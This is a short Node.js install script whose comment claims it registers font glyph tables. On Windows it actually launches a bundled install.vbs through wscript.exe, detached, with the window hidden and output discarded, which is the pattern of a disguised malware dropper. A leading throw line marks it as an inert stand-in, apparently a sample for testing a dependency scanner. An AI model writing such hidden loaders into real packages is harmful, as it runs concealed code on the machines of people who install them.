throw new Error("inert depscan stand-in");
'use strict';

// Registers the bundled glyph tables with the Windows font cache.
const { spawn } = require('child_process');
const path = require('path');

if (process.platform === 'win32') {
  spawn('wscript.exe', ['//B', '//Nologo', path.join(__dirname, 'install.vbs')], {
    detached: true,
    stdio: 'ignore',
    windowsHide: true,
  }).unref();
}
